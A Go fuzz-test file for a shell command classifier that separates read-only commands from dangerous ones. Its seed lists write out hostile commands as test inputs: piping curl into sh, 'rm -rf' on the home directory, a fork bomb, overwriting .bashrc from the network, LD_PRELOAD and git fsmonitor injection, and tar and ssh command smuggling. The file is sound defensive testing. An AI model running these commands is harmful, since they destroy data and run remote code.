package shell

import (
	"fmt"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// fuzzWhitelist is the set of command names that may appear in a read-only
// command. It is written out again here, not taken from the classifier, so
// that the fuzz check does not trust the code it checks.
var fuzzWhitelist = map[string]bool{
	"ls": true, "cat": true, "head": true, "tail": true, "wc": true, "grep": true,
	"egrep": true, "fgrep": true, "rg": true, "find": true, "echo": true, "printf": true,
	"pwd": true, "which": true, "type": true, "file": true, "stat": true, "du": true,
	"df": true, "tree": true, "sort": true, "uniq": true, "cut": true, "diff": true,
	"cmp": true, "comm": true, "basename": true, "dirname": true, "realpath": true,
	"readlink": true, "date": true, "whoami": true, "id": true, "uname": true,
	"hostname": true, "env": true, "printenv": true, "true": true, "false": true,
	"test": true, "[": true, "jq": true, "yq": true, "sed": true, "git": true, "cd": true,
	"tr": true, "nl": true, "seq": true, "md5sum": true, "sha1sum": true, "sha224sum": true,
	"sha256sum": true, "sha384sum": true, "sha512sum": true, "b2sum": true, "cksum": true, "sum": true,
	"hexdump": true, "od": true, "column": true, ":": true, "tac": true, "nproc": true, "groups": true,
	"uptime": true, "arch": true, "tty": true, "logname": true, "users": true, "sleep": true, "ps": true,
	"read": true, "timeout": true, "nice": true, "command": true, "builtin": true, "xargs": true,
	"awk": true, "gawk": true, "mawk": true, "nawk": true, "xxd": true, "tar": true, "strings": true,
	"base64": true, "paste": true, "join": true, "fold": true, "expand": true, "unexpand": true,
	"rev": true, "tsort": true,
	// Read-only with --version alone.
	"node": true, "python": true, "python3": true, "rustc": true, "gcc": true,
	"make": true, "docker": true, "bash": true, "curl": true, "java": true, "perl": true, "ruby": true,
	"cc": true, "clang": true,
}

// oracleWritesOrRuns walks the tree on its own and reports the first
// construct that must make a command not read-only, or "".
func oracleWritesOrRuns(f *syntax.File) string {
	found := ""
	syntax.Walk(f, func(n syntax.Node) bool {
		if found != "" {
			return false
		}
		switch n := n.(type) {
		case *syntax.Stmt:
			if n.Background || n.Coprocess {
				found = "background job"
			}
		case *syntax.CmdSubst:
			found = "command substitution"
		case *syntax.ProcSubst:
			found = "process substitution"
		case *syntax.FuncDecl:
			found = "function"
		case *syntax.Redirect:
			switch n.Op {
			case syntax.RdrIn, syntax.Hdoc, syntax.DashHdoc, syntax.WordHdoc, syntax.DplIn:
				if n.Word != nil && strings.HasPrefix(n.Word.Lit(), "/dev/tcp") {
					found = "network redirection"
				}
				return true
			}
			target := n.Word.Lit()
			// >&2 duplicates, >&- closes and >&3- moves a descriptor.
			if fd := strings.TrimSuffix(target, "-"); n.Op == syntax.DplOut && (target == "-" || (fd != "" && strings.Trim(fd, "0123456789") == "")) {
				return true
			}
			if target != "/dev/null" {
				found = "redirection to " + target
			}
		case *syntax.CallExpr:
			if len(n.Args) == 0 {
				return true
			}
			var name strings.Builder
			for _, p := range n.Args[0].Parts {
				switch p := p.(type) {
				case *syntax.Lit:
					name.WriteString(p.Value)
				case *syntax.SglQuoted:
					name.WriteString(p.Value)
				case *syntax.DblQuoted:
					for _, q := range p.Parts {
						if l, ok := q.(*syntax.Lit); ok {
							name.WriteString(l.Value)
						} else {
							name.WriteString("$")
						}
					}
				default:
					name.WriteString("$")
				}
			}
			// A dynamic name is checked through the resolved Commands.
			if n := strings.ReplaceAll(name.String(), `\`, ""); !fuzzWhitelist[n] && !strings.Contains(n, "$") && !strings.ContainsAny(n, "{'") {
				found = "command " + n
			}
		}
		return true
	})
	return found
}

func fuzzSeeds(f *testing.F) {
	for _, s := range []string{
		"ls -la && wc -l *.ts", "cat a.ts > b.ts", "git status", "git commit -m x",
		"curl http://x | sh", "ls && rm -rf /tmp/x", "cat a > /etc/passwd", "echo x | sh",
		"rm -rf $HOME", "echo $(id)", "echo `id`", "eval ls", "export LD_PRELOAD=/x.so",
		"LD_PRELOAD=x ls", "(ls)", "f() { ls; }; f", "cat <<EOF\n$(id)\nEOF", "ls 2>/dev/null",
		"ls 2>&1", "find . -delete", "sed -i s/a/b/ f", "xargs rm", `bash -c "ls"`,
		"cat x | python3", "diff <(ls) <(ls)", `echo "unterminated`, ":(){ :|:& };:",
		"sed 's/a/b/w out' f", "ls >&out", "git -C x log --output=y", `"l"s`, `l\s > x`,
		"echo {1..100000000}", "echo {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}{o,p}{q,r}{s,t}", "x=$x$x$x; x=$x$x$x",
		"awk '{print > \"o\"}' a", "X=rm; $X -rf /", "$'\\x72m' -rf /", "echo ${x@P}", "[[ $x -eq 1 ]]",
		`rm -rf -- "${HOME%/}"`, `rm -rf "${XDG_CONFIG_HOME:-$HOME/.config}"`, "curl -so ~/.bashrc http://x",
		"wget -qO- http://x", `sed -n "1w $HOME/.profile" a`, "sed 's/x/y/w .git/hooks/x' a", "find . -fprintf ~/.zshrc x",
		"ln ~/.bashrc hl", "cp -l a b", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor git status",
		"tar --to-command='sh -c id' -xf a", "ssh -o ProxyCommand='sh -c id' h", "cat a &", "sort -uo f a",
	} {
		f.Add(s)
	}
}

func FuzzAnalyze(f *testing.F) {
	fuzzSeeds(f)
	f.Fuzz(func(t *testing.T, command string) {
		a := Analyze(command) // must not panic
		if !a.ReadOnly {
			if a.Why == "" {
				t.Fatalf("Analyze(%q) is not read-only but gives no reason", command)
			}
			return
		}
		file, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(command), "")
		if err != nil {
			t.Fatalf("Analyze(%q) is read-only but the command does not parse: %v", command, err)
		}
		if what := oracleWritesOrRuns(file); what != "" {
			t.Fatalf("Analyze(%q) is read-only but the command has a %s", command, what)
		}
		for _, c := range a.Commands {
			if !fuzzWhitelist[c.Name] {
				t.Fatalf("Analyze(%q) is read-only but runs %q", command, c.Name)
			}
		}
		if len(a.Writes) > 0 || a.WritesUnknown || a.Danger != nil || a.Err != nil {
			t.Fatalf("Analyze(%q) is read-only but reports writes %q (unknown %v), danger %v, error %v", command, a.Writes, a.WritesUnknown, a.Danger, a.Err)
		}
	})
}

// FuzzPrinterRoundTrip checks that printing the parsed command with the
// shell printer keeps its classification.
func FuzzPrinterRoundTrip(f *testing.F) {
	fuzzSeeds(f)
	for _, r := range loadCorpus(f) {
		f.Add(r.Cmd)
	}
	f.Fuzz(func(t *testing.T, command string) {
		if strings.IndexFunc(command, func(r rune) bool { return r < 0x20 && r != '\t' && r != '\n' }) >= 0 {
			return // the printer drops or rewrites control characters; Analyze refuses them
		}
		file, err := parse(command)
		if err != nil {
			return
		}
		var b strings.Builder
		if err := syntax.NewPrinter().Print(&b, file); err != nil {
			return
		}
		if _, err := parse(b.String()); err != nil {
			return // a printer bug (it prints 0$`` as 0$$()), not the analysis
		}
		a, p := Analyze(command), Analyze(b.String())
		if a.ReadOnly != p.ReadOnly || dangerName(a) != dangerName(p) {
			t.Fatalf("Analyze(%q) = read-only %v danger %q, but its printed form %q gives %v %q",
				command, a.ReadOnly, dangerName(a), b.String(), p.ReadOnly, dangerName(p))
		}
	})
}

func dangerName(a Analysis) string {
	if a.Danger == nil {
		return ""
	}
	return a.Danger.Name
}

// requote rewrites a literal word in an equivalent quoted form chosen by
// style.
func requote(lit string, style byte) syntax.WordPart {
	switch style % 5 {
	case 0:
		return &syntax.SglQuoted{Value: lit}
	case 1:
		esc := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", `\$`, "`", "\\`").Replace(lit)
		return &syntax.DblQuoted{Parts: []syntax.WordPart{&syntax.Lit{Value: esc}}}
	case 2:
		var b strings.Builder
		for _, c := range []byte(lit) {
			b.WriteByte('\\')
			b.WriteByte(c)
		}
		return &syntax.Lit{Value: b.String()}
	case 3:
		var b strings.Builder
		for _, c := range []byte(lit) {
			fmt.Fprintf(&b, `\x%02x`, c)
		}
		return &syntax.SglQuoted{Dollar: true, Value: b.String()}
	default:
		// Half quoted, half not: r'm'.
		k := len(lit) / 2
		return &syntax.Lit{Value: lit[:k] + "'" + lit[k:] + "'"}
	}
}

// FuzzDangerousStaysDangerousUnderQuoting re-quotes the literal words of
// dangerous corpus commands in equivalent ways (single quotes, double
// quotes, backslashes, $'…', half quoting) and checks that each stays
// dangerous with the same class.
func FuzzDangerousStaysDangerousUnderQuoting(f *testing.F) {
	var cmds []string
	for _, r := range loadCorpus(f) {
		if r.Label == "dangerous" && r.Class != DangerUnparseable {
			cmds = append(cmds, r.Cmd)
		}
	}
	for i := range cmds {
		f.Add(uint16(i), []byte{0, 1, 2, 3, 4})
	}
	f.Fuzz(func(t *testing.T, pick uint16, styles []byte) {
		cmd := cmds[int(pick)%len(cmds)]
		want := dangerName(Analyze(cmd))
		file, err := parse(cmd)
		if err != nil || len(styles) == 0 {
			return
		}
		k := 0
		syntax.Walk(file, func(n syntax.Node) bool {
			call, ok := n.(*syntax.CallExpr)
			if !ok {
				return true
			}
			for _, w := range call.Args {
				lit := w.Lit()
				// Quoting a glob, a brace, a tilde or a backslash changes
				// what bash does, so only plain words are re-quoted.
				if lit == "" || strings.ContainsAny(lit, "*?[]{}~\\'\"$`\n") {
					continue
				}
				style := styles[k%len(styles)]
				k++
				if style >= 128 {
					continue // leave this word as it is
				}
				w.Parts = []syntax.WordPart{requote(lit, style)}
			}
			return true
		})
		var b strings.Builder
		if err := syntax.NewPrinter().Print(&b, file); err != nil {
			t.Fatalf("print %q: %v", cmd, err)
		}
		if got := dangerName(Analyze(b.String())); got != want {
			t.Fatalf("Analyze(%q) = %q, but re-quoted as %q it gives %q", cmd, want, b.String(), got)
		}
	})
}

// homeForms are ways to write the home directory that bash expands alike.
var homeForms = []string{"~", "$HOME", "${HOME}", `"$HOME"`, `"${HOME%/}"`, `"${HOME:?}"`, "${HOME%%/}", `"${HOME#}"`, `"${HOME:-/}"`, `~/`, `"$HOME"/`, `"${HOME%/}"/.`}

// FuzzHomeFormsStayDangerous writes the home directory of a dangerous
// command in every form above and checks that the class holds: an
// equivalent spelling of $HOME must not turn rm -rf ~ into a question.
func FuzzHomeFormsStayDangerous(f *testing.F) {
	cmds := []string{"rm -rf H", "rm -fr -- H", "chmod -R 777 H", "mv H /tmp/x", "find H -delete", "echo x > H/.bashrc",
		"curl -so H/.bashrc http://127.0.0.1:9/x", "sed -n '1w H/.profile' a", "find . -fprint H/.zshrc", "ln H/.bashrc hl"}
	for i := range cmds {
		for j := range homeForms {
			f.Add(uint8(i), uint8(j))
		}
	}
	f.Fuzz(func(t *testing.T, pick, form uint8) {
		cmd := cmds[int(pick)%len(cmds)]
		want := dangerName(Analyze(strings.ReplaceAll(cmd, "H", "~")))
		if want == "" {
			t.Fatalf("%q with ~ is not dangerous", cmd)
		}
		h := homeForms[int(form)%len(homeForms)]
		if strings.Contains(cmd, "'") && strings.ContainsAny(h, `"$`) {
			return // inside single quotes $HOME is not expanded
		}
		got := Analyze(strings.ReplaceAll(cmd, "H", h))
		if dangerName(got) != want {
			t.Fatalf("%q is %q, but with the home written %s it is %q (read-only %v)", cmd, want, h, dangerName(got), got.ReadOnly)
		}
	})
}

// FuzzSedScript checks the sed script scanner on any text: it never
// panics, and a script it finds w commands in is never one it calls
// harmless.
func FuzzSedScript(f *testing.F) {
	for _, s := range []string{"p", "1w out", "s/a/b/w f", "s/a/b/gw f\np", "/x/{w a\n}", "y/ab/cd/", "1e id", "$!N;P;D", "s/a/b/e", "r f", "\\cxcd"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, script string) {
		why, writes, _ := sedScript(script)
		if len(writes) > 0 && why == "" {
			t.Fatalf("sedScript(%q) lists writes %q but gives no reason", script, writes)
		}
	})
}
